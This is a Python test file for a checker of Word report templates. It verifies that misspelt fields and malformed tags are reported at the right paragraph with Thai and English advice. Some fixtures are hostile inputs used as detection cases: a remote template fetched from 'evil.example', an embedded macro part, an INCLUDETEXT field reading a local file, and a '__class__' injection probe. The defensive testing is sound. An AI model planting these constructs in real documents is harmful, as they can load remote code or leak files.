"""`sujarit template check` finds each fault that was put into a template, at its paragraph."""

import difflib
import re

import pytest

from authoring.templates.markup import Grid, cell, paragraph, tag, text
from sujarit.errors import SujaritError
from sujarit.plan.lang import Text
from sujarit.plan.schema import Column, Kind
from sujarit.report.fields.report_fields import GoalRow, Report
from sujarit.report.template import field_list
from sujarit.report.template.check import check_template
from sujarit.report.template.field_list import declarations, fields, sample
from sujarit.report.template.unknown_fields import MOST
from tests.report import make


def found(folder, template: bytes) -> list[str]:
    return [f"{p.place} :: {p.message.en}" for p in check_template(make.written(folder, template))]


def row(*cells: str) -> str:
    return Grid(*[3000] * len(cells)).row(*(cell("CellText", each) for each in cells)).xml()


FAULTS: dict[str, tuple[bytes, str, str]] = {
    "a misspelt field": (make.template("ชื่อ {{ offce_name }}"), "ชื่อ {{ offce_name }}", "'office_name' meant"),
    "a misspelt part": (make.template("{% for g in goals %}{{ g.titel }}{% endfor %}"), "g.titel", "'title' meant"),
    "a field of the list's rows used on the list": (make.template("{{ goals.title }}"), "goals.title", "no field named 'title'"),
    "a row's name outside its loop": (make.template("{% for g in goals %}{{ g.code }}{% endfor %} {{ g.title }}"), "g.title", "no field named 'g'"),
    "a list printed whole": (make.template("{{ goals }}"), "goals", "a list or a group"),
    "a text repeated": (make.template("{% for x in vision %}{{ x }}{% endfor %}"), "vision", "only a list can be repeated"),
    "a field in a condition": (make.template("{% if drafty %}x{% endif %}"), "drafty", "'draft' meant"),
    "a tag that does not end": (make.template("{% if draft %}x"), "", "a tag cannot be read"),
    "a tag over two paragraphs": (make.template("{{ office_name", "}} ต่อ"), "office_name", "open and close in the same paragraph"),
    "single braces": (make.template("ชื่อ { office_name }"), "{ office_name }", "single braces"),
    "a space inside the braces": (make.template("{ { office_name } }"), "office_name", "open and close"),
    "a rich-text tag": (make.template("{{r office_name }}"), "office_name", "rich content"),
    "a row tag that eats text": (make.template(body=row("{%tr for g in goals %} ข้อความ", "อื่น") + row("{%tr endfor %}")), "ข้อความ", "'ข้อความ อื่น' would vanish"),
    "a paragraph tag that eats text": (make.template("หัวข้อ {%p if draft %}", "{%p endif %}"), "หัวข้อ", "'หัวข้อ' would vanish"),
    "two merges in one cell": (make.template(body=tag("for g in goals") + row("{% vm %}{{ g.code }}{% vm %}") + tag("endfor")), "{% vm %}", "two {% vm %}"),
    "a call": (make.template("{{ goals.append(1) }}"), "append", "calling a function"),
    "loop outside a loop": (make.template("{{ loop.index }}"), "loop.index", "between for and endfor only"),
    "a raw part that does not end": (make.template("{% raw %}{{ x }}"), "", "no {% endraw %} closes it"),
    "a test of a number's name": (make.template("{% if vision is not 5 %}x{% endif %}"), "is not 5", "a tag cannot be read"),
    "an unknown filter": (make.template("{{ vision | upper }}"), "upper", "upper"),
    "an attribute of Python": (make.template("{{ vision.__class__ }}"), "__class__", "no field named '__class__'"),
    "tracked changes": (make.template(body='<w:p><w:del w:id="1" w:author="a"><w:r><w:delText>{{ vision }}</w:delText></w:r></w:del></w:p>'), "vision", "tracked changes"),
    "tags in a comment": (make.changed(make.template("x"), {"word/comments.xml": "<w:comments xmlns:w='x'><w:t>{{ vision }}</w:t></w:comments>", "[Content_Types].xml": make.part(make.template("x"), "[Content_Types].xml").replace(b"</Types>", b'<Override PartName="/word/comments.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"/></Types>')}), "comments.xml", "not filled in here"),
    "macros": (make.changed(make.template("x"), {"word/vbaProject.bin": b"x"}), "vbaProject", "macros"),
    "a template from elsewhere": (make.changed(make.template("x"), {"word/_rels/settings.xml.rels": '<Relationships xmlns="r"><Relationship Id="a" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'}), "settings.xml.rels", "http://evil.example/t.dotm"),
    "a field that reads a file": (make.template(body=paragraph("Plain", "<w:r><w:instrText>INCLUDETEXT C:\\\\x</w:instrText></w:r>")), "document.xml", "INCLUDETEXT"),
    "a table torn by a condition": (make.template(body=Grid(3000).row(cell("CellText", "{% if draft %}ใน")).xml() + paragraph("Plain", "นอก{% endif %}")), "", "break the document"),
}  # fmt: skip


@pytest.mark.parametrize("fault", FAULTS)
def test_a_fault_is_found_where_it_stands(fault, tmp_path):
    template, place, message = FAULTS[fault]
    problems = found(tmp_path, template)
    split = [each.split(" :: ") for each in problems]
    assert any(place in where and message in what for where, what in split), problems


def test_every_problem_is_told_in_thai_too(tmp_path):
    for template, _, _ in FAULTS.values():
        problems = check_template(make.written(tmp_path, template))
        assert all(any("ก" <= letter <= "๛" for letter in each.message.th) for each in problems)


def test_a_sound_template_has_no_problem(tmp_path):
    body = "".join((
        tag("for g in goals"), paragraph("Plain", "{{ loop.index }} {{ g.title }}"),
        tag("for s in g.strategies"), paragraph("Plain", "{{ s.projects | length }} {{ s.title or '-' }}"),
        tag("endfor"), tag("else"), paragraph("Plain", "ไม่มี"), tag("endfor"),
        paragraph("Plain", text("{{ office"), text("_name }}"), text("{% if draft %}ร่าง{% endif %}")),
        paragraph("Plain", "{{ (goals | first).title if goals else '-' }} ราคา {100}"),
    ))  # fmt: skip
    assert found(tmp_path, make.template(body=body)) == []


@pytest.mark.parametrize("content", [b"", b"x" * 100, make.template("x")[:500]])
def test_a_file_that_is_no_template_is_one_clear_line(content, tmp_path):
    with pytest.raises(SujaritError, match=r"t\.docx"):
        check_template(make.written(tmp_path, content))


def test_a_missing_file_is_one_clear_line(tmp_path):
    with pytest.raises(SujaritError, match="nowhere"):
        check_template(tmp_path / "nowhere.docx")


# the list of fields


def test_every_field_has_a_meaning_in_both_languages():
    listed = fields()
    assert len({each.name for each in listed}) == len(listed)
    assert all(each.meaning.th and each.meaning.en for each in listed)
    assert all(
        each.example
        for each in listed
        if each.kind == "text"
        and each.name not in ("logo", "garuda")
        and "picture" not in each.name
    )


def test_no_field_is_hidden_by_a_dictionarys_own_names():
    assert {each.name.rpartition(".")[2] for each in fields()} & set(dir(dict)) == set()


def names(value: object, prefix: str = "") -> set[str]:
    if isinstance(value, dict):
        return {each for key, inner in value.items() for each in {prefix + key} | names(inner, f"{prefix}{key}.")}  # fmt: skip
    if isinstance(value, list):
        return {each for inner in value for each in names(inner, prefix.removesuffix(".") + "[].")}
    return set()


@pytest.mark.parametrize("plan", [make.example, make.clean, make.nasty])
def test_the_context_holds_what_is_declared_and_nothing_else(plan):
    from sujarit.plan.finding import Counts
    from sujarit.plan.fiscal import Round
    from sujarit.report.context.assemble import Occasion, build_context

    occasion = Occasion(kind="monitoring", round=Round.SIX, today=make.TODAY, counts=Counts())
    context = build_context(plan(), occasion, "thai")
    declared = {each.name for each in fields()}
    assert names(context) <= declared
    assert set(context) == set(declarations(Report))
    assert declared - names(context) <= {each for each in declared if "[]" in each}


def test_an_example_of_the_context_can_be_made():
    assert sample(Report, 2)["goals"][1]["strategies"][0]["title"]
    assert sample(Report, 0)["goals"] == []


# what an officer reads


TOLD = {
    "{% for g in goals %}{{ g.title }}": "{% for g in goals %} เปิดไว้แต่ไม่มี {% endfor %} ปิด",
    "{% if draft %}ร่าง": "{% if draft %} เปิดไว้แต่ไม่มี {% endif %} ปิด",
    "ข้อความ {% endfor %}": "{% endfor %} ไม่มี for หรือ if เปิดคู่กัน",
    "{% each goals %}": "ไม่รู้จักป้าย {% each %}",
    "{{ vision.upper() }}": "ใช้การเรียกฟังก์ชันในแม่แบบไม่ได้",
    "{% set x = vision %}": "ใช้ set ในแม่แบบไม่ได้",
    "{{ vision | upper }}": "ไม่มีตัวกรองชื่อ “upper”",
    "{{ office\u200b_name }}": "มีอักขระ \\u200b",
    "{{ office name }}": "“name” ไม่ควรอยู่ตรงนี้",
    "{{ }}": "ป้ายขาดชื่อช่องข้อมูล",
    "ชื่อ {{ “office_name” }}": "“office_name” อยู่ในเครื่องหมายคำพูด",
    "{{ total.planned + 5 }}": "คำนวณไม่ได้",
}


@pytest.mark.parametrize(("words", "told"), TOLD.items())
def test_an_officer_is_told_in_thai_what_is_wrong_with_a_tag(words, told, tmp_path):
    (problem, *_) = check_template(make.written(tmp_path, make.template(words)))
    assert told in problem.message.th
    assert "Jinja" not in problem.message.th


def test_a_loop_that_is_never_closed_is_shown_where_it_opens(tmp_path):
    template = make.template("{% for g in goals %}", "{{ g.title }}", "ท้ายเอกสาร {{ office_name }}")
    places = [each.place for each in check_template(make.written(tmp_path, template))]
    assert places == ["document.xml: {% for g in goals %}"]


def test_a_column_whose_key_a_template_could_not_reach_is_refused(monkeypatch):
    for key in ("items", "title"):
        column = Column(key, "ใหม่", Kind.TEXT, Text("ใหม่", "New"))
        monkeypatch.setattr(field_list, "extra_fields", lambda _, column=column: (column,))
        with pytest.raises(ValueError, match=key):
            declarations(GoalRow)


def advice(folder, *words: str, body: str = "") -> list[str]:
    path = make.written(folder, make.template(*words, body=body))
    return [each.message.th for each in check_template(path)]


@pytest.mark.parametrize(
    ("typed", "told"),
    [
        ("{{ ชื่อหน่วยงาน }}", "office_name"),
        ("{{ ชื่อ หน่วยงาน }}", "office_name"),
        ("{{ total.เบิกจ่ายแล้ว }}", "“spent”"),
        ("{% for g in goals %}{{ g.รหัสเป้าประสงค์ }}{% endfor %}", "“code”"),
        ("{%tr for g in goals %}", "เฉพาะในตาราง"),
        ("{% tr for g in goals %}", "มีช่องว่างหลัง {%"),
        ("{{ goals.๐ }}", "เลขไทยใช้ในป้ายไม่ได้"),
        ("{{ หน่วยงาน }}", "“office_name”"),
        ("{{ งบประมาณ }}", "“total.planned”"),
        ("{{ OFFICE_NAME }}", "“office_name”"),
        ("{% if ร่าง %}x{% endif %}", "“draft”"),
        ("{% for g in เป้าประสงค์ %}{{ g.title }}{% endfor %}", "“goals”"),
        ("{% for goals %}x{% endfor %}", "{% for g in goals %}"),
        ("{% if draft = true %}x{% endif %}", "== สองตัว"),
        ("{% if draft and %}x{% endif %}", "ป้ายขาดชื่อช่องข้อมูล"),
        ("{# หมายเหตุที่ไม่จบ", "ไม่มี #} ปิด"),
    ],
)
def test_a_tag_that_is_meant_well_is_answered_with_what_to_write(tmp_path, typed, told):
    (only,) = advice(tmp_path, typed)
    assert told in only
    assert not re.search(r"Invalid|expected|unknown|Encountered|statement", only)


@pytest.mark.parametrize(
    ("typed", "told"),
    [
        ("{{ goals.๐ }}", "Thai digits cannot stand in a tag"),
        ("{% for g in goals %}", "{% for g in goals %} is opened and no {% endfor %} closes it"),
        ("{% for goals %}x{% endfor %}", "a loop is written {% for g in goals %}"),
        ("{% if draft = true %}x{% endif %}", "compare with two signs"),
        ("{{ }}", "it lacks a field's name"),
    ],
)
def test_the_advice_in_english_needs_no_python_either(tmp_path, typed, told):
    path = make.written(tmp_path, make.template(typed))
    (only,) = check_template(path)
    assert told in only.message.en
    assert "token" not in only.message.en


def test_a_loop_from_one_cell_to_the_next_is_found(tmp_path):
    across = Grid(3000, 3000).row(
        cell("CellText", "{% for g in goals %}{{ g.title }}"),
        cell("CellText", "{{ g.code }}{% endfor %}"),
    )
    within = Grid(3000, 3000).row(
        cell("CellText", "{% for g in goals %}{{ g.title }}{% endfor %}"),
        cell("CellText", "{% if draft %}ร่าง{% endif %}"),
    )
    assert all("อีกเซลล์หนึ่ง" in each for each in advice(tmp_path, body=across.xml()))
    assert advice(tmp_path, body=across.xml())
    assert advice(tmp_path, body=within.xml()) == []


def test_of_a_paragraph_of_many_wrong_names_the_first_are_told_and_that_there_are_more(tmp_path):
    wrong = " ".join(f"{{{{ nothing{number} }}}}" for number in range(MOST + 5))
    told = advice(tmp_path, wrong)
    assert len(told) == MOST + 1
    assert "ตรวจอีกครั้ง" in told[-1]


def test_a_wrong_name_is_told_of_once_and_looked_for_once(tmp_path, monkeypatch):
    known, asked = difflib.get_close_matches, []

    def counted(name, *rest):
        asked.append(name)
        return known(name, *rest)

    monkeypatch.setattr(difflib, "get_close_matches", counted)
    assert len(advice(tmp_path, "{{ office_nome }}" * 50)) == 1
    assert asked == ["office_nome"]
